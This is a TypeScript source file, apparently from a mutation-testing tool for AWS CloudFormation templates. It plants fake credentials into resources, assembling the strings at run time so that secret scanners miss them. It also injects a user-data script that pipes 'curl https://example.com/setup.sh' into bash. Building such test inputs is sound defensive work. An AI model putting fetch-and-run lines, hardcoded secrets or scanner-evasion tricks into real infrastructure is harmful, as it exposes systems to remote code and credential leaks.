import { addition, type Mutation, type Operator } from './mutation';

/** Put together at run time, so that no scanner takes this file for a leak. */
const SECRETS = [
  ['AK', 'IA', 'QWERTYUIOPASDFGH'].join(''),
  ['gh', 'p_', 'abcDEF0123ghiJKL4567mnoPQR89abcDEF01'].join(''),
] as const;

/** Plants a credential, or what runs code from elsewhere. */
export const secrets: Operator = (resource, pick) => {
  const secret = pick(SECRETS);
  switch (resource.Type) {
    case 'AWS::EC2::Instance':
      return scripts(secret).map(([what, script]) => planted(what, ['UserData'], script));
    case 'AWS::EC2::LaunchTemplate':
      return scripts(secret).map(([what, script]) => planted(what, ['LaunchTemplateData', 'UserData'], script));
    case 'AWS::Lambda::Function':
      return [{ ...addition(['Environment', 'Variables', 'TOKEN'], secret), what: 'a secret in the environment' }];
    case 'AWS::SSM::Parameter':
      return [{ ...addition(['Value'], secret), what: 'a secret as value' }];
    case 'AWS::EC2::SecurityGroup':
      return [{ ...addition(['GroupDescription'], `for ${secret}`), what: 'a secret in the description' }];
    default:
      return [];
  }
};

const scripts = (secret: string): [string, string][] => [
  ['a secret in the user data', `#!/bin/bash\nexport TOKEN=${secret}\n`],
  ['a fetched script run in the user data', '#!/bin/bash\ncurl -s https://example.com/setup.sh | bash\n'],
];

const planted = (what: string, path: readonly string[], script: string): Mutation => ({
  ...addition(path, { 'Fn::Base64': script }),
  what,
});
